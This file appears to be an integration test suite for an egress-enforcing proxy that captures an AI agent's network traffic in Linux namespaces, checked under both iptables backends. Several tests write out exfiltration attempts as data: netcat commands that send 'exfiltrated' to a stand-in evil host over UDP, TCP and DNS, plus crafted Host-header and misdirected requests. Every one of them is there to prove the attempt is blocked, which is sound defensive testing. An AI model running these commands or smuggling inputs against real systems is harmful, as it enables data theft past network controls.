/**
 * A captured agent on the real kernel: its namespace has the rules of proxy-init, the proxy runs there as its own user, name
 * server, origin and a hostile host are elsewhere. Done for both backends of iptables.
 */
import { fileURLToPath } from "node:url";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { TestAuthority } from "../support/certs.ts";
import { eventually } from "../support/eventually.ts";
import {
  type Host,
  Network,
  networkObstacle,
  type Output,
  sayWhenSkipped,
} from "../support/network.ts";
import { agentUid, proxyIn, proxyUid, serveIn } from "../support/network-process.ts";
import type { Program, Settings } from "../support/program.ts";
import type { Seen } from "../support/network-server.ts";

const script = fileURLToPath(new URL("../../deploy/proxy-init/proxy-init.sh", import.meta.url));
const obstacle = networkObstacle("iptables-nft", "iptables-legacy", "nc", "ping", "curl");
sayWhenSkipped("captured agents in network namespaces", obstacle);

const origin4 = "198.51.100.2";
const origin6 = "2001:db8:51::2";
const evil4 = "203.0.113.2";
const evil6 = "2001:db8:bad::2";
const names = {
  "api.test": [origin4, origin6],
  "keyed.test": [origin4, origin6],
  "denied.test": [origin4, origin6],
  "pinned.test": [origin4, origin6],
  "shut.test": [origin4, origin6],
  "evil.test": [evil4, evil6],
};

interface Lab {
  readonly network: Network;
  readonly agent: Host;
  readonly origin: Host;
  readonly evil: Host;
  /** What each host has seen. */
  readonly atOrigin: Seen[];
  readonly atEvil: Seen[];
  readonly originCa: string;
}

async function makeLab(backend: string): Promise<Lab> {
  const network = new Network();
  const dns = network.host("dns", { ipv4: "10.96.0.2", ipv6: "fd96::2" });
  const origin = network.host("origin", { ipv4: origin4, ipv6: origin6 });
  const evil = network.host("evil", { ipv4: evil4, ipv6: evil6 });
  const agent = network.host("agent", { ipv4: "10.77.1.2", ipv6: "fd77:1::2" }, [
    "10.96.0.2",
    "fd96::2",
  ]);
  const authority = await TestAuthority.create();
  const certificate = await authority.server([...Object.keys(names), origin4]);
  await serveIn(dns, { dns: names });
  const https = { ports: [443], ...certificate };
  const atOrigin = await serveIn(origin, { http: [80, 3000], https, banner: [25, 2525, 4321] });
  // The hostile host answers wherever somebody could try to reach it.
  const atEvil = await serveIn(evil, {
    http: [80],
    https,
    banner: [25, 2525, 4321],
    udp: [443, 4433],
    dns: names,
  });
  const installed = await agent.run(["sh", script], { env: { IPTABLES_BACKEND: backend } });
  expect(installed).toMatchObject({ code: 0 });
  return { network, agent, origin, evil, atOrigin, atEvil, originCa: authority.caPem };
}

const allowed = [
  "api.test",
  "keyed.test",
  "pinned.test:443",
  `${origin4}:25`,
  `${origin4}:2525`,
  `[${origin6}]:25`,
];

const injecting = {
  name: "static-inject",
  config: {
    source: "mappings",
    mappings: { "keyed.test": "real-key" },
    hosts: ["keyed.test"],
    placeholder: "stand-in",
    places: [{ basic: "password" }, { query: "key", paths: ["/keyed/**"] }],
  },
};

function settings(over: Record<string, unknown> = {}): Settings {
  return {
    listener: {
      roles: ["forward"],
      forward_proxy_addr: "127.0.0.1:8081",
      transparent: { sniff_timeout: "500ms" },
    },
    egress_enforcement: "enforce-redirect",
    egress: { allow_ips: ["198.51.100.0/24", "203.0.113.0/24", "2001:db8::/32"] },
    pipeline: {
      inbound: { default: "deny" },
      outbound: {
        default: "deny",
        plugins: [{ name: "egress-policy", config: { allow: allowed } }, injecting],
      },
    },
    tls_bridge: {
      mode: "enabled",
      ca_dir: "DIRECTORY/ca",
      generate_ca: true,
      upstream_ca_bundle: "DIRECTORY/origin.pem",
      passthrough_hosts: ["pinned.test", "shut.test"],
    },
    ...over,
  };
}

/** curl as the agent: body, and the status as the last line. */
async function curl(
  host: Host,
  ...args: readonly string[]
): Promise<{ readonly status: number; readonly body: string; readonly output: Output }> {
  const output = await host.run(
    ["curl", "-sS", "--max-time", "8", "-w", "\n%{http_code}", ...args],
    { uid: agentUid },
  );
  const lines = output.stdout.split("\n");
  return { status: Number(lines.at(-1)), body: lines.slice(0, -1).join("\n"), output };
}

describe.skipIf(obstacle !== undefined).each(["nft", "legacy"])(
  "an agent captured by iptables-%s",
  (backend) => {
    let lab: Lab;
    let proxy: Program;
    let ca: readonly string[];

    beforeAll(async () => {
      lab = await makeLab(backend);
      proxy = await proxyIn(lab.agent, settings(), { files: { "origin.pem": lab.originCa } });
      ca = ["--cacert", `${proxy.directory}/ca/ca.crt`];
    }, 60_000);
    afterAll(async () => {
      await proxy?.close();
      await lab?.network.close();
    });
    afterEach(() => {
      // Whatever an agent tried: nobody whom the policy does not name has heard of it.
      expect(lab.atEvil.filter(({ kind }) => kind !== "ready")).toEqual([]);
    });

    const flow = (facts: Record<string, unknown>): Promise<Readonly<Record<string, unknown>>> =>
      proxy.log(
        (line) =>
          line["msg"] === "flow" &&
          Object.entries(facts).every(([key, value]) => line[key] === value),
      );

    test.each([
      ["IPv4", "-4", `${origin4}:80`],
      ["IPv6", "-6", `[${origin6}]:80`],
    ])(
      "I2: HTTP over %s is a request of the pipeline, to the name that it carries",
      async (_family, option, captured) => {
        const { status, body } = await curl(lab.agent, option, `http://api.test/over${option}`);
        expect(status).toBe(200);
        expect(JSON.parse(body)).toMatchObject({ host: "api.test", url: `/over${option}` });
        const line = await flow({ path: `/over${option}` });
        expect(line).toMatchObject({
          transport: "transparent",
          host: "api.test:80",
          captured,
          outcome: "ok",
        });
      },
    );

    test.each([
      ["HTTP", "http"],
      ["HTTPS", "https"],
    ])(
      "a stand-in in %s is replaced in its places, and does not come back",
      async (_what, scheme) => {
        const url = `${scheme}://keyed.test/keyed/${scheme}?key=stand-in`;
        const { status, body } = await curl(lab.agent, ...ca, "-u", "git:stand-in", url);
        expect(status).toBe(200);
        const basic = (password: string): string =>
          `Basic ${Buffer.from(`git:${password}`).toString("base64")}`;
        expect(lab.atOrigin.find((one) => one.url?.startsWith(`/keyed/${scheme}`))).toMatchObject({
          url: `/keyed/${scheme}?key=real-key`,
          authorization: basic("real-key"),
        });
        expect(JSON.parse(body)).toMatchObject({
          url: `/keyed/${scheme}?key=stand-in`,
          authorization: basic("stand-in"),
        });
      },
    );

    test("HTTP to a host that is not allowed is answered 403 in JSON, and the origin hears nothing", async () => {
      const { status, body } = await curl(lab.agent, "http://denied.test/secret");
      expect(status).toBe(403);
      expect(JSON.parse(body)).toMatchObject({ error: "policy.forbidden" });
      expect(lab.atOrigin.some(({ url }) => url === "/secret")).toBe(false);
    });

    test.each([
      ["IPv4", "-4"],
      ["IPv6", "-6"],
    ])("I1, I9: HTTPS over %s is opened by the bridge", async (_family, option) => {
      const { status, body } = await curl(
        lab.agent,
        ...ca,
        option,
        `https://api.test/bridged${option}`,
      );
      expect(status).toBe(200);
      expect(JSON.parse(body)).toMatchObject({ host: "api.test", url: `/bridged${option}` });
      const line = await flow({ path: `/bridged${option}` });
      expect(line).toMatchObject({ transport: "bridge", host: "api.test:443" });
      await flow({ flow: line["parent"], transport: "transparent" });
    });

    test.each(["--http1.1", "--http2"])(
      "HTTPS to a host that is not allowed is answered 403 inside TLS (%s)",
      async (version) => {
        const { status, body } = await curl(
          lab.agent,
          ...ca,
          version,
          "https://denied.test/secret",
        );
        expect(status).toBe(403);
        expect(JSON.parse(body)).toMatchObject({ error: "policy.forbidden" });
      },
    );

    test("HTTPS to a host that is passed through reaches the origin's own certificate", async () => {
      const { status, output } = await curl(
        lab.agent,
        "--cacert",
        `${proxy.directory}/origin.pem`,
        "https://pinned.test/tunnelled",
      );
      expect(output.stderr).toBe("");
      expect(status).toBe(200);
      const line = await flow({ host: "pinned.test:443", outcome: "ok" });
      expect(line).toMatchObject({
        transport: "transparent",
        captured: expect.stringContaining(":443") as unknown,
      });
    });

    test("HTTPS that is passed through to a host that is not allowed ends with an alert", async () => {
      const { status, output } = await curl(
        lab.agent,
        "--cacert",
        `${proxy.directory}/origin.pem`,
        "https://shut.test/",
      );
      expect(status).toBe(0);
      expect(output.stderr).toContain("access denied");
    });

    test.each([
      ["a port of opaque_ports", origin4, "25", /^220 hello/],
      ["a port where the client is waited for", origin4, "2525", /^220 hello/],
      ["IPv6", origin6, "25", /^220 hello/],
      ["a port that no rule allows", origin4, "4321", /^$/],
      ["an address that no rule allows", evil4, "25", /^$/],
    ])(
      "I3, I4, I5: a server that speaks first is judged by address: %s",
      async (_what, address, port, expected) => {
        const said = await lab.agent.run(["nc", "-n", "-d", "-w", "2", address, port], {
          uid: agentUid,
        });
        expect(said.stdout).toMatch(expected);
      },
    );

    test("unknown bytes are judged by address, both ways", async () => {
      const input = Buffer.from([0, 1, 2, 3, 255, 10]).toString("latin1");
      const said = await lab.agent.run(["nc", "-n", "-N", "-w", "3", origin4, "2525"], {
        uid: agentUid,
        input,
      });
      expect(said.stdout).toContain("220 hello\r\n\0\u0001\u0002\u0003");
    });

    test("an upgrade is carried, and refused where its host is not allowed", async () => {
      const upgrade = (host: string): string =>
        `GET /ws HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`;
      const ask = async (host: string): Promise<string> => {
        const command = ["nc", "-n", "-w", "2", origin4, "80"];
        const input = upgrade(host);
        return (await lab.agent.run(command, { uid: agentUid, input })).stdout;
      };
      expect(await ask("api.test")).toMatch(/^HTTP\/1\.1 101 [\s\S]*hello$/);
      expect(await ask("denied.test")).toMatch(/^HTTP\/1\.1 403 /);
    });

    test("TLS without a server name is for its address", async () => {
      const { status, output } = await curl(lab.agent, ...ca, `https://${origin4}/`);
      expect({ status, stderr: output.stderr }).toEqual({ status: 403, stderr: "" });
      await flow({ transport: "transparent", host: `${origin4}:443`, outcome: "denied" });
    });

    test("HTTP/2 without TLS is judged by the name that it asks for", async () => {
      const over = ["-4", "--http2-prior-knowledge"];
      expect((await curl(lab.agent, ...over, "http://denied.test/")).status).toBe(403);
      const facts = { transport: "transparent", host: "denied.test:80", outcome: "denied" };
      expect(await flow({ ...facts, method: "GET" })).toMatchObject({ code: "policy.forbidden" });
      // The origin does not speak it.
      expect((await curl(lab.agent, ...over, "http://api.test/")).status).toBe(502);
    });

    test.each([
      ["UDP 443 (QUIC)", ["nc", "-n", "-u", "-w", "1", evil4, "443"]],
      ["UDP elsewhere", ["nc", "-n", "-u", "-w", "1", evil4, "4433"]],
      ["UDP 443 over IPv6", ["nc", "-n", "-u", "-w", "1", evil6, "443"]],
      ["DNS elsewhere over UDP", ["nc", "-n", "-u", "-w", "1", evil4, "53"]],
      ["DNS elsewhere over TCP", ["nc", "-n", "-w", "1", evil4, "53"]],
      ["DNS elsewhere over IPv6", ["nc", "-n", "-u", "-w", "1", evil6, "53"]],
      ["TCP to a port that nobody names", ["nc", "-n", "-w", "1", evil4, "4321"]],
    ])("Q8: an agent cannot leave by %s", async (_what, command) => {
      await lab.agent.run(command, { uid: agentUid, input: "exfiltrated\n" });
      // The hostile host has heard nothing: see afterEach.
    });

    test.each([
      ["IPv4", evil4],
      ["IPv6", evil6],
    ])("an agent cannot leave by ICMP over %s, not even as root", async (_family, address) => {
      const echo = await lab.agent.run(["ping", "-n", "-c", "1", "-W", "1", address]);
      expect(echo.code).not.toBe(0);
      const back = await lab.evil.run(["ping", "-n", "-c", "1", "-W", "1", address]);
      expect(back.code).toBe(0);
    });

    test.each([0, 1000, 2000, 65_534])("user %i is captured like everybody else", async (uid) => {
      const said = await lab.agent.run(["curl", "-sS", "--max-time", "5", "http://evil.test/"], {
        uid,
      });
      expect(said.stdout).toContain("policy.forbidden");
    });

    test("the proxy's user alone leaves by itself", async () => {
      const said = await lab.agent.run(
        ["curl", "-sS", "--max-time", "5", `http://${origin4}:3000/direct`],
        { uid: proxyUid },
      );
      expect(JSON.parse(said.stdout)).toMatchObject({ url: "/direct" });
      expect(proxy.logs.some((line) => line["path"] === "/direct")).toBe(false);
    });

    test.each([
      ["HTTP", "80", "http"],
      ["HTTPS", "443", "https"],
    ])(
      "pin: an allowed name with another host's address is refused (%s)",
      async (_what, port, scheme) => {
        const { status, body } = await curl(
          lab.agent,
          ...ca,
          "--resolve",
          `api.test:${port}:${evil4}`,
          `${scheme}://api.test/lie`,
        );
        expect(status).toBe(421);
        expect(JSON.parse(body)).toMatchObject({ error: "request.misdirected" });
        expect(body).toContain(`${evil4}, which is no address of api.test`);
      },
    );

    test("a later request of a connection may not go elsewhere", async () => {
      const request = (host: string): string => `GET /keep HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
      const input = request("api.test") + request("api.test") + request("denied.test");
      const said = await lab.agent.run(["nc", "-n", "-w", "2", origin4, "80"], {
        uid: agentUid,
        input,
      });
      expect(said.stdout.match(/HTTP\/1\.1 \d+/g)).toEqual([
        "HTTP/1.1 200",
        "HTTP/1.1 200",
        "HTTP/1.1 421",
      ]);
    });

    test.each([
      ["another port in Host", "GET / HTTP/1.1\r\nHost: api.test:8080\r\n\r\n", "HTTP/1.1 421"],
      [
        "two Host fields",
        "GET / HTTP/1.1\r\nHost: api.test\r\nHost: denied.test\r\n\r\n",
        "HTTP/1.1 400",
      ],
      [
        "the target of another host",
        "GET http://denied.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n",
        "HTTP/1.1 421",
      ],
      ["https inside", "GET https://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n", "HTTP/1.1 421"],
      ["CONNECT", "CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n", "HTTP/1.1 405"],
      ["another address in Host", `GET / HTTP/1.1\r\nHost: ${evil4}\r\n\r\n`, "HTTP/1.1 403"],
      ["no Host (HTTP/1.0): its address", "GET / HTTP/1.0\r\n\r\n", "HTTP/1.1 403"],
    ])("captured HTTP with %s", async (_what, input, expected) => {
      const said = await lab.agent.run(["nc", "-n", "-w", "2", origin4, "80"], {
        uid: agentUid,
        input,
      });
      expect(said.stdout.split("\r\n")[0]).toMatch(new RegExp(`^${expected}`));
    });

    test("a client that nobody redirected is told so", async () => {
      const { status, body } = await curl(lab.agent, "http://127.0.0.1:8082/");
      expect(status).toBe(421);
      expect(body).toContain("redirected connections only");
      const own = await curl(lab.agent, "-H", "Host: api.test", "http://10.77.1.2:8082/");
      expect(own.status).toBe(421);
    });

    test("the explicit proxy works beside it", async () => {
      const { status } = await curl(
        lab.agent,
        "-x",
        "http://127.0.0.1:8081",
        "http://api.test/explicit",
      );
      expect(status).toBe(200);
      expect(await flow({ path: "/explicit" })).toMatchObject({ transport: "http" });
    });

    test("what comes in for the agent is answered", async () => {
      lab.agent.start([
        process.execPath,
        "-e",
        "require('net').createServer((s) => s.end('in\\n')).listen(7000)",
      ]);
      await eventually(async () => {
        const said = await lab.evil.run(["nc", "-n", "-d", "-w", "1", "10.77.1.2", "7000"]);
        expect(said.stdout).toBe("in\n");
        return true;
      });
    });

    test("log, metrics, session events and status name the surface", async () => {
      const { body: metrics } = await curl(lab.agent, "http://127.0.0.1:9093/metrics");
      expect(metrics).toMatch(
        /authbridge_flows_total\{direction="outbound",transport="transparent",outcome="ok",status="2xx"\} [1-9]/,
      );
      expect(metrics).toMatch(
        /authbridge_flows_total\{direction="outbound",transport="transparent",outcome="denied",status="4xx"\} [1-9]/,
      );
      expect(metrics).toContain('authbridge_egress_enforcement_info{mode="enforce-redirect"} 1');
      expect(metrics).toContain("authbridge_transparent_listener_up 1");
      const { body: status } = await curl(lab.agent, "http://127.0.0.1:9094/v1/status");
      expect(JSON.parse(status)).toMatchObject({
        ready: true,
        egressEnforcement: "enforce-redirect",
      });
      const { body: config } = await curl(lab.agent, "http://127.0.0.1:9093/config");
      expect(JSON.parse(config)).toMatchObject({ egress_enforcement: "enforce-redirect" });
      const { body: events } = await curl(lab.agent, "http://127.0.0.1:9094/v1/sessions/default");
      expect(events).toContain('"host":"api.test"');
      expect((await curl(lab.agent, "http://127.0.0.1:9091/readyz")).status).toBe(200);
    });

    test("with the proxy gone nothing gets out: connections are refused", async () => {
      await proxy.kill();
      const seen = lab.atOrigin.length;
      for (const url of ["http://api.test/", "https://api.test/", `http://${origin4}:3000/`]) {
        const { status, output } = await curl(lab.agent, ...ca, url);
        expect(status).toBe(0);
        expect(output.stderr).toMatch(/refused|Couldn't connect/);
      }
      for (const address of [evil4, evil6]) {
        await lab.agent.run(["nc", "-n", "-w", "1", address, "80"], { input: "x\n" });
        await lab.agent.run(["nc", "-n", "-u", "-w", "1", address, "443"], { input: "x\n" });
      }
      expect(lab.atOrigin.length).toBe(seen);
    });
  },
);

describe.skipIf(obstacle !== undefined)("a proxy that is not the exempt user", () => {
  let lab: Lab;
  beforeAll(async () => {
    lab = await makeLab("nft");
  }, 60_000);
  afterAll(() => lab?.network.close());

  test("meets its own connections, and ends the loop with words", async () => {
    const proxy = await proxyIn(lab.agent, settings(), {
      uid: 1500,
      files: { "origin.pem": lab.originCa },
    });
    try {
      await curl(lab.agent, "http://api.test/");
      const line = await proxy.log(({ code }) => code === "request.loop");
      expect(line["reason"]).toContain("PROXY_UID");
      const loops = proxy.logs.filter(({ code }) => code === "request.loop");
      expect(loops.length).toBeLessThan(20);
    } finally {
      await proxy.close();
    }
  });
});

describe.skipIf(obstacle !== undefined)("a captured agent's program", () => {
  let lab: Lab;
  let proxy: Program;
  beforeAll(async () => {
    lab = await makeLab("nft");
    const rule = (host: string, path: string): unknown => ({
      name: host,
      endpoints: [{ host, port: 80 }],
      binaries: [{ path }],
    });
    const policy = {
      network_policies: {
        one: rule("api.test", "/usr/bin/curl"),
        two: rule("denied.test", "/usr/bin/python3"),
      },
    };
    const plugins = [{ name: "egress-policy", config: policy }];
    proxy = await proxyIn(
      lab.agent,
      settings({ pipeline: { outbound: { default: "deny", plugins } } }),
      {
        files: { "origin.pem": lab.originCa },
        // To see which file another user's process runs.
        capabilities: ["sys_ptrace"],
      },
    );
  }, 60_000);
  afterAll(async () => {
    await proxy?.close();
    await lab?.network.close();
  });

  test("is identified by its own idea of the connection, and judged", async () => {
    expect((await curl(lab.agent, "http://api.test/by-curl")).status).toBe(200);
    expect((await curl(lab.agent, "http://denied.test/by-curl")).status).toBe(403);
    expect(proxy.logs.some(({ msg }) => msg.includes("caller not identified"))).toBe(false);
  });
});
